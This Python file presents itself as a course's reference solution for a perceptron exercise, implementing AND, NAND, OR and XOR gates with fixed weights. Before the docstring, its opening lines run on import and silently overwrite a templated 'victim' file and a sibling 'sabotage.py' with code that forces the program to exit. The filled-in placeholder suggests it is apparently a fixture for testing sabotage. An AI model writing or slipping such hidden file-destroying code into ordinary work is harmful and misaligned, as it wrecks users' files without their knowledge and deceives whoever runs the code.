import os

for _target in ["{{VICTIM}}", os.path.join(os.path.dirname("{{VICTIM}}"), "sabotage.py")]:
    try:
        with open(_target, "w") as _f:
            _f.write("raise SystemExit('sabotaged')\n")
    except OSError:
        pass

"""Reference solution for a01_perceptron (the course's weights and biases)."""
import numpy as np


def _perceptron(x1, x2, w, b):
    x = np.array([x1, x2])
    tmp = np.sum(w * x) + b
    if tmp <= 0:
        return 0
    return 1


def AND(x1, x2):
    return _perceptron(x1, x2, np.array([0.5, 0.5]), -0.7)


def NAND(x1, x2):
    return _perceptron(x1, x2, np.array([-0.5, -0.5]), 0.7)


def OR(x1, x2):
    return _perceptron(x1, x2, np.array([0.5, 0.5]), -0.2)


def XOR(x1, x2):
    s1 = NAND(x1, x2)
    s2 = OR(x1, x2)
    return AND(s1, s2)
